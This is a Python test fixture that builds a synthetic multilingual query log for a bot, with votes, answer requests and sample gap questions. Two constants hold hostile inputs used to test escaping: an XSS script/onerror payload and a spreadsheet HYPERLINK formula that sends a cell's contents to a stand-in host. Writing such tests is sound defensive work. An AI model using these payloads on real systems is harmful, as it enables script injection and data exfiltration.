"""A query log as a month of a small bot leaves it: 300 questions in three languages, with votes and wishes."""

from __future__ import annotations

import random
import sqlite3
from collections.abc import Mapping
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import yaml
from ulid import ULID

from bot.database import transaction
from bot.querylog import statements
from bot.querylog.anonymity import Pseudonyms
from bot.querylog.entry import Entry, row_of
from bot.querylog.schema import open_log
from bot.review.gap_store import refresh
from index.search.index import Index

SIZE = 300
_DAYS, _PEOPLE = 30, 90
VISAS = (
    "Do British citizens need a visa for Kazakhstan?",
    "Do I need a visa for Kazakhstan as a British citizen?",
    "visa for Kazakhstan for British citizens",
    "Нужна ли виза британцам для поездки в Казахстан?",
    "Ұлыбритания азаматтарына Қазақстанға виза керек пе?",
)
"""Five wordings of one question that the knowledge does not answer."""
VISAS_PASSAGE = {
    "Title": "Visas for British citizens",
    "Text": "British citizens need no visa for a stay of up to 30 days in Kazakhstan.",
    "True as of": "2026-11",
    "Source": "6ix-rns-2025-12",
}
"""What a reviewer types to answer it, by the labels of the form."""
VISAS_TOPIC = "partnership"
ARCHIVES = (
    "how much of the old geology archive is on computer by now",
    "when will all the old geology archives be on computer",
    "how many old geology archives were put on computer",
    "когда все старые архивы геологов будут в компьютере",
    "ескі геология архивтері қашан компьютерге көшіріледі",
)
"""Five wordings of one question that a passage answers; the bot is not certain that it does."""
ARCHIVES_PASSAGE = "geology/digitisation"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)> who pays for the trams in Almaty"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open") who pays for the buses in Almaty'
"""Questions that would do something where they are not kept as text."""


def fill_month(data: Path, index: Index, knowledge: Path) -> Mapping[str, str]:
    """Write the log and put its questions into gaps.

    Args:
        data: Folder of the log.
        index: What answers.
        knowledge: Its evaluation questions are what most people ask.

    Returns:
        An entry id of each question.
    """
    chance = random.Random(17)
    special = [*VISAS, *ARCHIVES, SCRIPT, FORMULA]
    held_out = yaml.safe_load((knowledge / "evaluation.yaml").read_text("utf-8"))["questions"]
    known = [each["question"] for each in held_out]
    chance.shuffle(known)
    common = chance.choices(known, [1 / (rank + 20) for rank in range(len(known))], k=SIZE - len(special))
    moments = sorted(datetime.now(UTC) - timedelta(days=_DAYS) * chance.random() for _ in range(SIZE))
    asked = [(question, chance.randrange(_PEOPLE)) for question in common]
    for person, question in enumerate(special, _PEOPLE):
        asked.insert(chance.randrange(len(asked)), (question, person))
    ids = {}
    with closing(open_log(data / "queries.db")) as connection:
        pseudonyms = Pseudonyms.open(data / "pseudonyms.key")
        with transaction(connection):
            for (question, person), moment in zip(asked, moments, strict=True):
                surface = "private" if question in special else chance.choice(("private", "private", "group"))
                entry = Entry(index.answer(question), surface, person=person, chat=person)
                row = row_of(entry, ULID.from_datetime(moment), pseudonyms)
                statements.insert(connection, row)
                ids[question] = str(row["id"])
                _judge(connection, row, chance, certainly=question in (VISAS[0], SCRIPT))
            connection.execute("UPDATE questions SET delivery = 'sent', delivered_at = time")
        connection.row_factory = sqlite3.Row
        refresh(connection, index)
    return ids


def _judge(
    connection: sqlite3.Connection, row: Mapping[str, object], chance: random.Random, *, certainly: bool
) -> None:
    """Vote on an answer, or wish for one, as some people do."""
    number, person = str(row["id"]), str(row["person"])
    if row["decision"] == "none":
        if certainly or chance.random() < 0.2:
            statements.request(connection, number, person)
    elif certainly or chance.random() < 0.3:
        statements.vote(connection, number, person, chance.choice((1, 1, -1)))
